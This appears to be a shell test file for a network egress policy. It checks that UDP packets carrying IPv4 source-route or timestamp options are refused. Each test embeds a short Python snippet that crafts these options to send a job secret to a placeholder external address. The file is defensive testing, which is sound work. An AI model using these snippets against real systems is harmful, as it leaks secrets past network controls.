# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# IPv4 source routing: connect() sees the last hop, the packet goes to the first. It needs no privilege.

test_a_source_route_leads_nowhere() {
	attack <<-'END'
	import socket, sys
	import job
	kind = {"loose": b"\x83", "strict": b"\x89"}[sys.argv[1]]
	sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, kind + b"\x07\x04" + socket.inet_aton("203.0.113.66") + b"\0")
	sock.sendto(job.SECRET, ("198.51.100.70", 9999))
	END
	policy_feed
	verdict not-allowed "${ATTACK[@]}" loose
}

# Options are refused also where they route nothing: a timestamp or record-route field is a carrier too.
test_a_packet_with_options_is_refused_even_to_an_allowed_address() {
	attack <<-'END'
	import socket
	import job
	sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x07\x0b\x04" + b"\0" * 9)
	sock.sendto(job.SECRET, ("198.51.100.70", 9999))
	END
	policy_feed
	verdict not-allowed "${ATTACK[@]}"
}
